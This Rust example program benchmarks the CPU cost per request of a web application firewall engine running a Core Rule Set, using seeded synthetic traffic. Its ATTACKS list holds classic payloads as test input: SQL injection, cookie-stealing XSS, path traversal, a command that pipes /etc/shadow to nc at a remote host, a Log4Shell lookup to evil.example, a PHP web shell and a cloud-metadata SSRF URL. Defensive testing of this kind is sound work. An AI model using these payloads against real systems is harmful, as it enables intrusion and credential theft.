//! What one request costs: `cargo run --release -p brigandine-inspect --example measure -- FOLDER [PARANOIA [SHAPE]]`.
//!
//! FOLDER holds a Core Rule Set of version 4; `builtin` means the built-in rules. With `WARM` in the
//! environment all programs are built beforehand. Inputs vary from request to request, since an engine that is asked the same thing
//! again and again looks faster than it is.
#![expect(
    clippy::print_stdout,
    clippy::unwrap_used,
    clippy::disallowed_methods,
    clippy::indexing_slicing,
    clippy::expect_used,
    reason = "a measuring tool reads files and clocks"
)]

#[path = "../tests/support/crs.rs"]
#[expect(dead_code, reason = "shared with the runner of the regression tests")]
mod crs;
#[path = "../tests/support/suite.rs"]
#[expect(dead_code, reason = "shared with the runner of the regression tests")]
mod suite;

use std::fmt::Write as _;
use std::time::Instant;

use brigandine_inspect::{Engine, Request, RuleSet, Scratch, Settings, Sources, builtin};

/// A request of one shape.
struct Shape {
    method: &'static str,
    uri: String,
    content_type: &'static str,
    body: String,
}

/// Makes a request of one kind.
type Make = fn(&mut Dice) -> Shape;

/// A seeded generator, so that every run measures the same.
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 >> 11).unwrap() % sides
    }

    fn pick<'a>(&mut self, list: &[&'a str]) -> &'a str {
        list[self.roll(list.len())]
    }

    fn number(&mut self) -> usize {
        self.roll(1_000_000)
    }
}

const WORDS: [&str; 40] = [
    "order",
    "blue",
    "Anna",
    "winter",
    "Lisboa",
    "delivery",
    "small",
    "cotton",
    "shirt",
    "garden",
    "table",
    "summer",
    "Tokyo",
    "window",
    "paper",
    "coffee",
    "number",
    "evening",
    "quick",
    "market",
    "please",
    "ring",
    "the",
    "bell",
    "twice",
    "leave",
    "with",
    "neighbour",
    "second",
    "floor",
    "thanks",
    "invoice",
    "company",
    "Müller",
    "street",
    "north",
    "river",
    "open",
    "until",
    "nine",
];
const ATTACKS: [&str; 10] = [
    "1' OR '1'='1' -- ",
    "1 UNION SELECT name, password FROM users",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/shadow | nc 10.0.0.1 4444",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<?php system($_GET['c']); ?>",
    "http://169.254.169.254/latest/meta-data/",
    "'; DROP TABLE orders; --",
];

fn get(dice: &mut Dice) -> Shape {
    let uri = format!(
        "/orders/search?customer={}&page={}&sort={}&from=2026-0{}-11&city={}&q={}+{}",
        dice.number(),
        dice.roll(40),
        dice.pick(&["name", "date", "price"]),
        1 + dice.roll(9),
        dice.pick(&WORDS),
        dice.pick(&WORDS),
        dice.pick(&WORDS)
    );
    Shape { method: "GET", uri, content_type: "", body: String::new() }
}

fn json(dice: &mut Dice) -> Shape {
    let mut body =
        format!("{{\"id\":{},\"customer\":{{\"name\":\"{}\"}},\"items\":[", dice.number(), dice.pick(&WORDS));
    while body.len() < 1_900 {
        let (name, note) = (sentence(dice, 2), sentence(dice, 6));
        write!(
            body,
            "{{\"sku\":\"A-{}\",\"name\":\"{name}\",\"count\":{},\"note\":\"{note}\"}},",
            dice.number(),
            dice.roll(9)
        )
        .unwrap();
    }
    body.pop();
    body.push_str("]}");
    Shape { method: "POST", uri: "/orders".to_owned(), content_type: "application/json", body }
}

fn form(dice: &mut Dice) -> Shape {
    let mut body = String::new();
    let mut field = 0;
    while body.len() < 9_800 {
        write!(body, "field{field}={}&", sentence(dice, 28).replace(' ', "+")).unwrap();
        field += 1;
    }
    body.pop();
    Shape { method: "POST", uri: "/forms/contact".to_owned(), content_type: "application/x-www-form-urlencoded", body }
}

fn injection(dice: &mut Dice) -> Shape {
    let uri = format!("/orders?id={}%27%20OR%20%271%27%3D%27{}%27%20--%20", dice.number(), dice.number());
    Shape { method: "GET", uri, content_type: "", body: String::new() }
}

fn attack(dice: &mut Dice) -> Shape {
    let payload = format!("{} {} {}", dice.pick(&WORDS), dice.pick(&ATTACKS), dice.number());
    let encoded: String = payload.bytes().fold(String::new(), |mut text, byte| {
        write!(text, "%{byte:02x}").unwrap();
        text
    });
    Shape { method: "GET", uri: format!("/orders?q={encoded}"), content_type: "", body: String::new() }
}

fn prose(dice: &mut Dice) -> Shape {
    let body = format!("{{\"title\":\"{}\",\"text\":\"{}\"}}", sentence(dice, 5), sentence(dice, 300));
    Shape { method: "POST", uri: "/pages".to_owned(), content_type: "application/json", body }
}

/// 64 KB of one kind of trouble: quotes, comments, brackets, encodings, words that patterns start with.
fn hostile(dice: &mut Dice) -> Shape {
    const PIECES: [&str; 16] = [
        "'", "/*", "*/ ", "select ", "union", "<a ", "on", "=", "%27", "..%2f", "${", "((", "\\x", "&#x3c;", " or ",
        "[][",
    ];
    let mut body = String::from("x=");
    let few: Vec<&str> = (0..=dice.roll(4)).map(|_| dice.pick(&PIECES)).collect();
    while body.len() < 65_536 {
        body.push_str(few[dice.roll(few.len())]);
        if dice.roll(50) == 0 {
            body.push_str("&y=");
        }
    }
    Shape { method: "POST", uri: "/".to_owned(), content_type: "application/x-www-form-urlencoded", body }
}

/// The smallest honest request.
fn tiny(dice: &mut Dice) -> Shape {
    Shape { method: "GET", uri: format!("/hello?name={}", dice.pick(&WORDS)), content_type: "", body: String::new() }
}

/// 8 KB of JSON, one long value of random lower-case letters.
fn letters(dice: &mut Dice) -> Shape {
    let text: String = (0..8_192).map(|_| char::from(b'a' + u8::try_from(dice.roll(26)).unwrap())).collect();
    let body = format!("{{\"text\":\"{text}\"}}");
    Shape { method: "POST", uri: "/notes".to_owned(), content_type: "application/json", body }
}

/// 8 KB of JSON, one long value of prose.
fn essay(dice: &mut Dice) -> Shape {
    let body = format!("{{\"text\":\"{}.\"}}", sentence(dice, 1_300));
    Shape { method: "POST", uri: "/notes".to_owned(), content_type: "application/json", body }
}

/// CPU time of this thread in microseconds: the machine may be doing other things, too.
fn cpu() -> f64 {
    let now = rustix::time::clock_gettime(rustix::time::ClockId::ThreadCPUTime);
    let part = |number: i64| f64::from(u32::try_from(number).unwrap());
    part(now.tv_sec) * 1e6 + part(now.tv_nsec) / 1e3
}

fn sentence(dice: &mut Dice, words: usize) -> String {
    let list: Vec<&str> = (0..words).map(|_| dice.pick(&WORDS)).collect();
    list.join(" ")
}

fn main() {
    let mut arguments = std::env::args().skip(1);
    let folder = arguments.next().expect("the folder of a Core Rule Set");
    let level: u8 = arguments.next().map_or(1, |level| level.parse().expect("a paranoia level"));
    let only = arguments.next().unwrap_or_default();
    let own = folder == "builtin";
    let sources = if own { Sources::new() } else { crs::sources(folder.as_ref()) };
    let setup = format!("SecAction \"id:999999,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level={level}\"");
    let (started, used) = (Instant::now(), cpu());
    let configuration = if own { builtin::configuration(level) } else { crs::version_4("On", &setup) };
    let rules = RuleSet::load(&configuration, &sources).unwrap();
    let used = (cpu() - used) / 1_000.0;
    println!("load: {} rules in {} ms, {used:.1} ms of CPU", rules.len(), started.elapsed().as_millis());
    if std::env::var_os("WARM").is_some() {
        let used = cpu();
        rules.warm();
        println!("warm: {:.1} ms of CPU", (cpu() - used) / 1_000.0);
    }
    println!("microseconds of CPU per request; the first request builds the programs it needs");
    println!("shape       bytes    first     mean   median      p99      max      work  matched");
    let shapes: [(&str, Make); 10] = [
        ("tiny", tiny),
        ("get", get),
        ("json", json),
        ("form", form),
        ("injection", injection),
        ("attack", attack),
        ("prose", prose),
        ("letters", letters),
        ("essay", essay),
        ("hostile", hostile),
    ];
    for engine in [Engine::On, Engine::DetectionOnly] {
        println!("{engine:?}");
        for (name, shape) in shapes.into_iter().filter(|(name, _)| only.is_empty() || only == *name) {
            measure(&rules, engine, name, shape);
        }
    }
}

fn measure(rules: &RuleSet, engine: Engine, name: &str, shape: Make) {
    let mut dice = Dice(0x5eed_1234_5678);
    let mut scratch = Scratch::default();
    let settings = Settings { engine: Some(engine), response_body: Some(false), ..Settings::default() };
    let (mut times, mut bytes, mut work, mut blocked, mut first) = (Vec::new(), 0, 0, 0, 0.0);
    let rounds = if name == "hostile" { 200 } else { 1_500 };
    for round in 0..rounds {
        let shape = shape(&mut dice);
        let length = shape.body.len().to_string();
        let mut headers: Vec<(&[u8], &[u8])> = vec![
            (b"Host", b"shop.example"),
            (b"User-Agent", b"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
            (b"Accept", b"application/json, text/html;q=0.9"),
            (b"Accept-Language", b"en-GB,en;q=0.8"),
            (b"Cookie", b"session=8f14e45fceea167a5a36dedd4bea2543; theme=dark"),
        ];
        if !shape.body.is_empty() {
            headers.push((b"Content-Type", shape.content_type.as_bytes()));
            headers.push((b"Content-Length", length.as_bytes()));
        }
        let request = Request {
            headers: &headers,
            body: shape.body.as_bytes(),
            id: length.as_bytes(),
            ..Request::new(shape.method.as_bytes(), shape.uri.as_bytes())
        };
        let started = cpu();
        let mut inspection = rules.start(&settings, scratch);
        inspection.request(&request);
        let verdict;
        (verdict, scratch) = inspection.finish();
        let took = cpu() - started;
        bytes = shape.uri.len() + shape.body.len();
        work = verdict.work;
        blocked += usize::from(verdict.status != 200 || !verdict.matches.is_empty());
        if round == 0 {
            first = took;
        }
        // The first requests build the programs they need.
        if round >= rounds / 5 {
            times.push(took);
        }
    }
    times.sort_by(f64::total_cmp);
    let at = |share: usize| times[(times.len() - 1) * share / 100];
    let mean = times.iter().sum::<f64>() / f64::from(u32::try_from(times.len()).unwrap());
    println!(
        "{name:<10} {bytes:>6} {first:>8.0} {mean:>8.0} {:>8.0} {:>8.0} {:>8.0} {work:>9} {blocked:>8}",
        at(50),
        at(99),
        at(100)
    );
}
